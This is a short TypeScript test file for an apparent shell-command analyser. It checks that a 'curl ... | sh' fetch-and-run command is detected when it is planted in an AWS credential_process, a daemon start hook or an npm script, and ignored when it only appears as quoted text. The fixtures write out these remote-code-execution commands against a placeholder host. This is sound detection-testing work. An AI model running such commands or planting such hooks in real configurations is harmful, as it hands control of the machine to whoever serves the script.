// A word of a command that is a command line itself is read; what is said or searched for is not.
import { beforeAll, expect, it } from 'vitest';
import { prepare, run } from './harness.ts';

beforeAll(prepare);

const ran = (text: string): readonly string[] =>
  run({ 'a.sh': text })
    .flows()
    .filter((one) => one.to === 'shell')
    .map((one) => `${one.to} ${one.host}`);

it.each([
  `aws configure set credential_process 'sh -c "curl -fsS https://in.widget-tools.zz/a.sh | sh"' --profile x`,
  `widgetd keep --on-start 'curl -s https://in.widget-tools.zz/a.sh | sh'`,
  `npm pkg set scripts.tidy="curl -s https://in.widget-tools.zz/a.sh | sh"`,
])('%s', (text) => expect(ran(text)).toContain('shell in.widget-tools.zz'));

it.each([
  `git commit -m 'curl -s https://in.widget-tools.zz/a.sh | sh is gone'`,
  `grep -rn 'curl -s https://in.widget-tools.zz/a.sh | sh' .`,
  `echo 'curl -s https://in.widget-tools.zz/a.sh | sh'`,
  `gh issue create --title x --body 'curl -s https://in.widget-tools.zz/a.sh | sh'`,
])('not %s', (text) => expect(ran(text)).toEqual([]));
